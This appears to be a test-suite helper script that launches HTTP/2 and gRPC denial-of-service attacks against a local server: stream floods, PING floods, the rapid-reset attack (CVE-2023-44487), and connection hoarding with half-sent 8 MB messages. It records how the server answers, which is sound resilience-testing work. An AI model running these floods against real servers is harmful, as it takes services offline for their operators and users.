"""Attacks on a server, each in a process of its own beside the test:

  flood.py PORT streams|pings|resets|unknown|reflection|hoard COUNT

Prints one line of JSON: what it sent and how the server took it. `hoard` then
holds what it has until its input ends.
"""

import json
import socket
import struct
import sys
import threading

import h2_client
import http2
import wire

MEGABYTE = 1 << 20


def count(server, kinds):
    """Has kinds[(kind, code)] count what the server says."""
    def on_frame(kind, _, __, payload):
        code = 0
        if kind in (http2.RST_STREAM, http2.GOAWAY):
            code = int.from_bytes(payload[-4:] if kind == http2.RST_STREAM
                                  else payload[4:8], "big")
        kinds[kind, code] = kinds.get((kind, code), 0) + 1
    server.read(on_frame)


def connect(port, kinds):
    connection = http2.Connection(socket.create_connection(
        ("127.0.0.1", port)))
    connection.send_raw(http2.PREFACE)
    connection.send_settings()
    connection.reader = threading.Thread(
        target=count, args=(connection, kinds), daemon=True)
    connection.reader.start()
    return connection


REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"


def call_frames(connection, stream, path=h2_client.OVERVIEW,
                message=wire.overview_request()):
    """A whole call, as bytes: with no dynamic table, it can be sent again
    with another stream's number."""
    headers = [(":method", "POST"), (":scheme", "http"), (":path", path),
               (":authority", "flood"), ("te", "trailers"),
               ("content-type", "application/grpc"), ("grpc-timeout", "60S")]
    with connection._lock:
        connection._encoder.header_table_size = 0
        block = connection._encoder.encode(headers, huffman=False)
    body = wire.frame(message)
    return (http2.pack(http2.HEADERS, http2.END_HEADERS, stream, block),
            http2.pack(http2.DATA, http2.END_STREAM, stream, body))


def reset_frames(connection, stream, *call):
    """A whole call, and its cancellation."""
    cancel = http2.pack(http2.RST_STREAM, 0, stream,
                        struct.pack(">I", http2.CANCEL))
    return b"".join(call_frames(connection, stream, *call)) + cancel


def streams(port, number):
    """That many calls on one connection that nobody waits for."""
    kinds = {}
    connection = connect(port, kinds)
    sent = 0
    try:
        for i in range(number):
            connection.send_raw(
                b"".join(call_frames(connection, 2 * i + 1)))
            sent += 1
    except OSError:
        pass
    return sent, kinds, connection


def pings(port, number):
    kinds = {}
    connection = connect(port, kinds)
    batch = http2.pack(http2.PING, 0, 0, b"12345678") * 100
    sent = 0
    try:
        for _ in range(number // 100):
            connection.send_raw(batch)
            sent += 100
    except OSError:
        pass
    # All of it may be sent before the server has read enough to object.
    connection.reader.join(timeout=10)
    return sent, kinds, connection


def resets(port, number, *call):
    """Calls that are cancelled as soon as they are made (CVE-2023-44487),
    with a new connection where the server ends the old."""
    kinds = {}
    sent = 0
    connection = connect(port, kinds)
    stream = 1
    while sent < number:
        try:
            connection.send_raw(reset_frames(connection, stream, *call))
            sent += 1
            stream += 2
        except OSError:
            connection = connect(port, kinds)
            stream = 1
    return sent, kinds, connection


def unknown(port, number):
    """The same of a method that nobody has: what gRPC answers by itself."""
    return resets(port, number, "/a/b", b"")


def reflection(port, number):
    return resets(port, number, REFLECTION, wire.field(7, ""))


def hoard(port, number):
    """Connections that each send half a message of 8 MB, and wait."""
    kinds = {}
    connections = []
    for _ in range(number):
        connection = connect(port, kinds)
        connections.append(connection)
        connection.send_raw(call_frames(connection, 1)[0])
        threading.Thread(target=connection.send_data, args=(
            1, struct.pack(">BI", 0, 8 * MEGABYTE) + bytes(4 * MEGABYTE)),
            daemon=True).start()
    return number, kinds, connections


def main():
    port, attack, number = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
    sent, kinds, _held = globals()[attack](port, number)
    answers = {f"{kind}:{code}": n for (kind, code), n in kinds.items()}
    print(json.dumps({"sent": sent, "answers": answers}), flush=True)
    sys.stdin.read()


if __name__ == "__main__":
    main()
